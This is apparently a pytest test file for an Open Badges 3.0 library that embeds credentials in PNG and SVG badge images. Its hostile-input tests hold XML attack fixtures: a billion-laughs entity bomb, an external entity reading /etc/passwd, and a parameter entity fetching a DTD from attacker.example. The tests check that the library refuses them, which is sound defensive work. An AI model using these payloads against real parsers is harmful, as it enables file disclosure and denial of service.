"""Baking credentials into PNG and SVG images (OB 3.0 §5.3), including hostile input."""

from __future__ import annotations

import io
import json
import struct
import zlib

import pytest
from PIL import Image, PngImagePlugin

from ob3.baking import bake, bake_png, bake_svg, image_format, unbake, unbake_png, unbake_svg
from ob3.errors import BakingError, Ob3Error
from tests.ob3.support import VALIDATOR, shared

OB_NS = "https://purl.imsglobal.org/ob/v3p0"
DECL = f'xmlns:openbadges="{OB_NS}"'.encode()

CREDENTIAL = {
    "@context": ["https://www.w3.org/ns/credentials/v2", "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json"],
    "id": "urn:uuid:2f1c1f51-6f59-4a0f-9d1a-7d4c5b0f2a11",
    "type": ["VerifiableCredential", "OpenBadgeCredential"],
    "issuer": {"id": "https://issuer.example/issuers/1", "type": ["Profile"], "name": "Høgskolen på Ås"},
    "validFrom": "2024-05-01T12:00:00Z",
    "name": "Mikromerit – ærlig & <trygg>",
    "credentialSubject": {"id": "did:example:learner", "type": ["AchievementSubject"], "note": "a]]>b ]]> c"},
}
OTHER = {**CREDENTIAL, "id": "urn:uuid:00000000-0000-4000-8000-000000000002", "name": "Another"}
JWS = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJ4In0.c2lnbmF0dXJl"


# --- helpers -------------------------------------------------------------------------------------------
def make_png(size: tuple[int, int] = (3, 2), *, text: bool = True) -> bytes:
    """A small RGBA PNG with a tEXt chunk, written by Pillow."""
    image = Image.new("RGBA", size, (200, 30, 60, 255))
    image.putpixel((0, 0), (1, 2, 3, 4))
    info = PngImagePlugin.PngInfo()
    if text:
        info.add_text("Software", "mikromerit-tests")
    out = io.BytesIO()
    image.save(out, format="PNG", pnginfo=info)
    return out.getvalue()


def chunks(data: bytes) -> list[bytes]:
    """The raw chunks (length + type + data + CRC) of a PNG; an independent parser for the tests."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    pos, out = 8, []
    while pos < len(data):
        (length,) = struct.unpack(">I", data[pos : pos + 4])
        out.append(data[pos : pos + 12 + length])
        pos += 12 + length
    assert pos == len(data)
    return out


def chunk(chunk_type: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + chunk_type + body + struct.pack(">I", zlib.crc32(chunk_type + body))


def is_credential_chunk(raw: bytes) -> bool:
    return raw[4:8] == b"iTXt" and raw[8:].split(b"\0", 1)[0] == b"openbadgecredential"


def insert_before_iend(png: bytes, extra: bytes) -> bytes:
    return png[:-12] + extra + png[-12:]


def pixels(png: bytes) -> bytes:
    return Image.open(io.BytesIO(png)).convert("RGBA").tobytes()


SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b"<!-- badge -->\n"
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" data-x="a>b">\n'
    b'  <rect width="10" height="10" fill="#c33"/>\n'
    b"</svg>\n"
)


def without_bake(svg: bytes, credential: bytes) -> bytes:
    """Undo what bake_svg adds, to compare the rest of the document byte for byte."""
    return svg.replace(b" " + DECL, b"", 1).replace(credential, b"", 1)


# --- PNG ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("credential", [CREDENTIAL, JWS], ids=["json", "jws"])
def test_png_round_trip(credential):
    baked = bake_png(make_png(), credential)
    assert unbake_png(baked) == credential
    assert unbake(baked) == credential


def test_png_layout_is_one_uncompressed_itxt_before_iend():
    original = make_png()
    baked = bake_png(original, CREDENTIAL)
    raw = chunks(baked)
    ours = [c for c in raw if is_credential_chunk(c)]
    assert len(ours) == 1
    assert raw[-2] == ours[0] and raw[-1][4:8] == b"IEND"
    body = ours[0][8:-4]
    # keyword \0, compression flag 0, method 0, empty language tag \0, empty translated keyword \0, text
    assert body.startswith(b"openbadgecredential\0\0\0\0\0")
    text = body[len(b"openbadgecredential") + 5 :].decode("utf-8")
    assert text == json.dumps(CREDENTIAL, ensure_ascii=False, separators=(",", ":"))
    assert struct.unpack(">I", ours[0][-4:])[0] == zlib.crc32(ours[0][4:-4])
    # Every other chunk is copied byte for byte, in order; the image still decodes to the same pixels.
    assert [c for c in raw if not is_credential_chunk(c)] == chunks(original)
    assert pixels(baked) == pixels(original)


def test_png_rebake_replaces_the_credential():
    original = make_png()
    twice = bake_png(bake_png(original, CREDENTIAL), OTHER)
    assert sum(is_credential_chunk(c) for c in chunks(twice)) == 1
    assert unbake_png(twice) == OTHER
    assert twice == bake_png(original, OTHER)
    assert bake_png(twice, OTHER) == twice


def test_png_rebake_removes_every_old_credential_chunk():
    baked = bake_png(make_png(), CREDENTIAL)
    doubled = insert_before_iend(baked, chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + JWS.encode()))
    rebaked = bake_png(doubled, OTHER)
    assert sum(is_credential_chunk(c) for c in chunks(rebaked)) == 1
    assert unbake_png(rebaked) == OTHER


def test_png_unbake_takes_the_first_credential_chunk():
    baked = bake_png(make_png(), JWS)
    doubled = insert_before_iend(baked, chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + json.dumps(OTHER).encode()))
    assert unbake_png(doubled) == JWS


def test_png_keeps_other_text_chunks_including_ob2_assertions():
    ob2 = chunk(b"iTXt", b"openbadges\0\0\0\0\0{}")
    original = insert_before_iend(make_png(), ob2)
    baked = bake_png(original, CREDENTIAL)
    assert ob2 in chunks(baked)
    assert [c for c in chunks(baked) if not is_credential_chunk(c)] == chunks(original)


def test_text_that_utf8_or_xml_cannot_carry_round_trips():
    credential = {**CREDENTIAL, "name": "lone \ud800 surrogate and \uffff"}
    assert unbake_png(bake_png(make_png(), credential)) == credential
    assert unbake_svg(bake_svg(SVG, credential)) == credential


def test_png_accepts_pretty_printed_json_with_whitespace():
    text = "\n  " + json.dumps(CREDENTIAL, indent=2) + "\n"
    png = insert_before_iend(make_png(), chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + text.encode()))
    assert unbake_png(png) == CREDENTIAL


# --- SVG ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("credential", [CREDENTIAL, JWS], ids=["json", "jws"])
def test_svg_round_trip(credential):
    baked = bake_svg(SVG, credential)
    assert unbake_svg(baked) == credential
    assert unbake(baked) == credential


def test_svg_layout_and_byte_identical_rest():
    baked = bake_svg(SVG, CREDENTIAL)
    text = json.dumps(CREDENTIAL, ensure_ascii=False, separators=(",", ":"))
    cdata = text.replace("]]>", "]]]]><![CDATA[>")
    element = f"<openbadges:credential><![CDATA[{cdata}]]></openbadges:credential>".encode()
    assert b'<svg xmlns:openbadges="' + OB_NS.encode() + b'" xmlns="http://www.w3.org/2000/svg"' in baked
    assert b'data-x="a>b">' + element + b"\n  <rect" in baked  # first child, right after the start tag
    assert baked.count(b"<openbadges:credential") == 1
    assert without_bake(baked, element) == SVG


def test_svg_jws_goes_in_the_verify_attribute():
    baked = bake_svg(SVG, JWS)
    element = f'<openbadges:credential verify="{JWS}"></openbadges:credential>'.encode()
    assert element in baked
    assert without_bake(baked, element) == SVG


def test_svg_cdata_is_split_around_the_cdata_terminator():
    baked = bake_svg(SVG, CREDENTIAL)
    assert b"a]]]]><![CDATA[>b ]]]]><![CDATA[> c" in baked
    assert unbake_svg(baked)["credentialSubject"]["note"] == "a]]>b ]]> c"


def test_svg_rebake_replaces_the_credential():
    twice = bake_svg(bake_svg(SVG, CREDENTIAL), JWS)
    assert twice.count(b"<openbadges:credential") == 1
    assert twice.count(DECL) == 1
    assert unbake_svg(twice) == JWS
    assert twice == bake_svg(SVG, JWS)


def test_svg_rebake_removes_nested_and_repeated_credentials():
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="{OB_NS}"><g><ob:credential verify="{JWS}"/></g>'
        f"<ob:credential><![CDATA[{{}}]]></ob:credential><circle r='1'/></svg>"
    ).encode()
    assert unbake_svg(svg) == JWS  # the first element, whatever its prefix
    rebaked = bake_svg(svg, CREDENTIAL)
    assert b"ob:credential" not in rebaked
    assert rebaked.endswith(b"<g></g><circle r='1'/></svg>")
    assert unbake_svg(rebaked) == CREDENTIAL


def test_svg_keeps_an_existing_namespace_declaration():
    svg = SVG.replace(b"<svg ", b"<svg " + DECL + b" ")
    baked = bake_svg(svg, JWS)
    assert baked.count(DECL) == 1
    assert unbake_svg(baked) == JWS


def test_svg_refuses_openbadges_prefix_bound_elsewhere():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"/>'
    with pytest.raises(BakingError, match="binds the prefix 'openbadges'"):
        bake_svg(svg, JWS)


def test_svg_self_closing_root_and_str_input():
    baked = bake_svg('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>', CREDENTIAL)
    assert baked.startswith(b'<svg xmlns:openbadges="' + OB_NS.encode() + b'" xmlns="http://www.w3.org/2000/svg"')
    assert baked.endswith(b"]]></openbadges:credential></svg>")
    assert unbake_svg(baked) == CREDENTIAL
    assert unbake_svg(baked.decode("utf-8")) == CREDENTIAL


def test_svg_prefixed_root_and_bom():
    svg = b'\xef\xbb\xbf<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:g/></s:svg>'
    baked = bake_svg(svg, JWS)
    assert baked.startswith(b"\xef\xbb\xbf<s:svg " + DECL)
    assert image_format(baked) == "svg"
    assert unbake(baked) == JWS


def test_svg_refuses_to_bake_a_non_utf8_document():
    svg = b'<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"/>'
    with pytest.raises(BakingError, match="only UTF-8"):
        bake_svg(svg, JWS)
    utf16 = '<svg xmlns="http://www.w3.org/2000/svg"/>'.encode("utf-16")
    with pytest.raises(BakingError, match="only UTF-8"):
        bake_svg(utf16, JWS)


def test_svg_credential_outside_the_ob3_namespace_is_ignored():
    ob2 = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">' \
          b'<openbadges:assertion verify="https://example.org/a"/></svg>'
    with pytest.raises(BakingError, match="no baked credential"):
        unbake_svg(ob2)


# --- the 1EdTech validator's baked samples ----------------------------------------------------------
@pytest.mark.parametrize("name", ["simple-json.png", "simple-json.svg"])
def test_validator_json_samples_unbake(name):
    credential = unbake(shared(VALIDATOR, name).read_bytes())
    assert isinstance(credential, dict)
    assert "proof" in credential
    assert credential["id"] == "http://example.com/credentials/3527"


@pytest.mark.parametrize(
    "name", ["simple-jwt.png", "simple-jwt.svg", "simple-jwt_v1.png", "simple-jwt_v1.svg"]
)
def test_validator_jwt_samples_unbake(name):
    token = unbake(shared(VALIDATOR, name).read_bytes())
    assert isinstance(token, str)
    assert token.count(".") == 2


@pytest.mark.parametrize("name", ["simple-json.png", "simple-jwt.png", "simple-jwt_v1.png"])
def test_validator_png_samples_rebake_keeping_other_chunks(name):
    original = shared(VALIDATOR, name).read_bytes()
    rebaked = bake_png(original, OTHER)
    assert unbake_png(rebaked) == OTHER
    keep = [c for c in chunks(original) if not is_credential_chunk(c)]
    assert [c for c in chunks(rebaked) if not is_credential_chunk(c)] == keep


@pytest.mark.parametrize("name", ["simple-json.svg", "simple-jwt.svg", "simple-jwt_v1.svg"])
def test_validator_svg_samples_rebake(name):
    original = shared(VALIDATOR, name).read_bytes()
    rebaked = bake_svg(original, JWS)
    assert rebaked.count(b"<openbadges:credential") == 1
    assert rebaked.count(DECL) == 1  # the samples already declare it
    assert unbake_svg(rebaked) == JWS
    assert rebaked.endswith(original[original.index(b"</openbadges:credential>") + 24 :])


def test_dispatch_by_content():
    png, svg = make_png(), SVG
    assert image_format(png) == "png" and image_format(svg) == "svg"
    assert unbake(bake(png, JWS)) == JWS
    assert unbake(bake(svg, CREDENTIAL)) == CREDENTIAL


# --- hostile and broken input ------------------------------------------------------------------------
@pytest.mark.parametrize("cut", [7, 8, 12, 20, 33, 40, -13, -5, -1])
def test_truncated_png(cut):
    baked = bake_png(make_png(), CREDENTIAL)
    with pytest.raises(BakingError, match="PNG"):
        unbake_png(baked[:cut])


def test_every_truncation_and_byte_flip_raises_only_baking_error():
    baked = bake_png(make_png((1, 1), text=False), JWS)
    for end in range(len(baked)):
        with pytest.raises(BakingError):
            unbake(baked[:end])
    for index in range(len(baked)):
        damaged = bytearray(baked)
        damaged[index] ^= 0x40
        try:
            unbake(bytes(damaged))
        except BakingError:
            pass
    svg = bake_svg(SVG, CREDENTIAL)
    for end in range(len(svg)):
        try:
            unbake(svg[:end])
        except BakingError:
            pass


def test_bad_crc():
    png = bytearray(make_png())
    idat = png.index(b"IDAT")
    png[idat + 4] ^= 0xFF  # first byte of the IDAT data
    with pytest.raises(BakingError, match="CRC mismatch in chunk IDAT"):
        unbake_png(bytes(png))
    with pytest.raises(BakingError, match="CRC mismatch"):
        bake_png(bytes(png), CREDENTIAL)


def test_compressed_itxt_is_refused():
    body = b"openbadgecredential\0\1\0\0\0" + zlib.compress(json.dumps(CREDENTIAL).encode())
    png = insert_before_iend(make_png(), chunk(b"iTXt", body))
    with pytest.raises(BakingError, match="compressed"):
        unbake_png(png)
    assert unbake_png(bake_png(png, JWS)) == JWS  # baking replaces it


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"openbadgecredential\0\0\0\0\0{not json", "not valid JSON"),
        (b"openbadgecredential\0\0\0\0\0[1, 2]", "not a JSON object"),
        (b"openbadgecredential\0\0\0\0\0hello world", "neither a JSON object nor a compact JWS"),
        (b"openbadgecredential\0\0\0\0\0\xff\xfe", "not valid UTF-8"),
        (b"openbadgecredential\0\0", "truncated"),
        (b"openbadgecredential\0\0\0en", "truncated"),
        (b"openbadgecredential\0\0\7\0\0{}", "invalid compression"),
    ],
)
def test_malformed_credential_chunk(body, reason):
    png = insert_before_iend(make_png(), chunk(b"iTXt", body))
    with pytest.raises(BakingError, match=reason):
        unbake_png(png)


@pytest.mark.parametrize(
    ("mutate", "reason"),
    [
        (lambda png: png + b"junk", "after IEND"),
        (lambda png: png[:8] + chunk(b"tEXt", b"a\0b") + png[8:], "first chunk is not IHDR"),
        (lambda png: png[:-12] + b"\x80\0\0\0IEND" + png[-4:], "invalid length"),
        (lambda png: png[:-12] + chunk(b"IE D", b""), "invalid type"),
        (lambda png: png[:-12], "truncated"),
    ],
)
def test_structurally_broken_png(mutate, reason):
    with pytest.raises(BakingError, match=reason):
        unbake_png(mutate(make_png()))


def test_png_without_credential():
    with pytest.raises(BakingError, match="no baked credential"):
        unbake_png(make_png())


def test_oversized_input():
    png = bake_png(make_png(), CREDENTIAL)
    with pytest.raises(BakingError, match="limit"):
        unbake_png(png, max_bytes=len(png) - 1)
    with pytest.raises(BakingError, match="limit"):
        bake_png(png, JWS, max_bytes=100)
    with pytest.raises(BakingError, match="limit"):
        unbake(b"\x89PNG\r\n\x1a\n" + bytes(10 * 1024 * 1024))
    svg = bake_svg(SVG, JWS)
    with pytest.raises(BakingError, match="limit"):
        unbake_svg(svg, max_bytes=len(svg) - 1)
    with pytest.raises(BakingError, match="limit"):
        unbake(b"<svg>" + b" " * (10 * 1024 * 1024))


def test_too_many_chunks():
    png = make_png()
    many = insert_before_iend(png, chunk(b"tEXt", b"k\0v") * 50)
    assert unbake_png(bake_png(many, JWS)) == JWS
    with pytest.raises(BakingError, match="more than 20 chunks"):
        unbake_png(many, max_chunks=20)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&lol3;</openbadges:credential></svg>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&xxe;</openbadges:credential></svg>"""

PARAMETER_ENTITY = b"""<!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize("svg", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY], ids=["laughs", "xxe", "param"])
def test_entity_attacks_are_refused(svg):
    with pytest.raises(BakingError, match="SVG rejected"):
        unbake_svg(svg)
    with pytest.raises(BakingError, match="SVG rejected"):
        unbake(svg)
    with pytest.raises(BakingError, match="SVG rejected"):
        bake_svg(svg, JWS)


def test_entities_without_internal_subset_are_not_resolved():
    svg = b'<!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg xmlns="http://www.w3.org/2000/svg">&xxe;</svg>'
    with pytest.raises(BakingError, match="not well-formed"):
        unbake_svg(svg)


def test_plain_doctype_is_accepted_but_never_fetched():
    svg = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://127.0.0.1:9/svg11.dtd">\n' + SVG.split(b"\n", 2)[2]
    assert unbake_svg(bake_svg(svg, JWS)) == JWS


OB_SVG = b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:o='" + OB_NS.encode() + b"'>%s</svg>"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "not a PNG or SVG"),
        (b"hello, world", "not a PNG or SVG"),
        (b"GIF89a\x01\x00\x01\x00", "not a PNG or SVG"),
        (b'{"id": "x"}', "not a PNG or SVG"),
        (b"<html><body/></html>", "root element is 'html'"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", "not well-formed"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "no baked credential"),
        (OB_SVG % b"<o:credential>{oops</o:credential>", "not valid JSON"),
        (OB_SVG % b"<o:credential verify='{}'/>", "must hold a compact JWS"),
        (OB_SVG % b"<o:credential verify='a.b'/>", "neither"),
    ],
)
def test_non_images_and_broken_svg(data, reason):
    with pytest.raises(BakingError, match=reason):
        unbake(data)


def test_other_svg_namespaces_are_not_svg():
    with pytest.raises(BakingError, match="root element"):
        unbake_svg(b'<svg xmlns="http://example.org/not-svg"/>')


@pytest.mark.parametrize(
    "credential", ["{\"id\": 1}", "not a jws", ["a"], {"n": float("nan")}, {"x": object()}], ids=repr
)
def test_unbakeable_credentials(credential):
    with pytest.raises(BakingError):
        bake_png(make_png(), credential)
    with pytest.raises(BakingError):
        bake_svg(SVG, credential)


def test_wrong_input_types():
    with pytest.raises(BakingError):
        unbake("not bytes")  # type: ignore[arg-type]
    with pytest.raises(BakingError):
        bake_png(None, JWS)  # type: ignore[arg-type]
    assert issubclass(BakingError, Ob3Error)
